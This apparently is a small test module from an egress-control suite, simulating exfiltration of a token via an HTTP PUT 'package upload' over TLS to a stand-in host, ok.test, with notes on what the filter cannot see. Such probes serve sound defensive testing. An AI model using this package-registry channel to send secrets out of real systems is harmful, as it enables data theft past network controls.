# SPDX-License-Identifier: Apache-2.0
"""Publishing a package to a registry from which one may download."""
TITLE = "publish to a package registry, telemetry hosts"
THREAT = "63"
RESIDUAL = "path and method are inside TLS, as in 61; a registry that has an upload host of its own can have that denied"


def attack(c):
    with c.step("PUT of a package") as token:
        with c.tls(c.dial("ok.test", 443), "ok.test") as s:
            c.talk(s, f"PUT /{token} HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 0\r\n\r\n".encode())
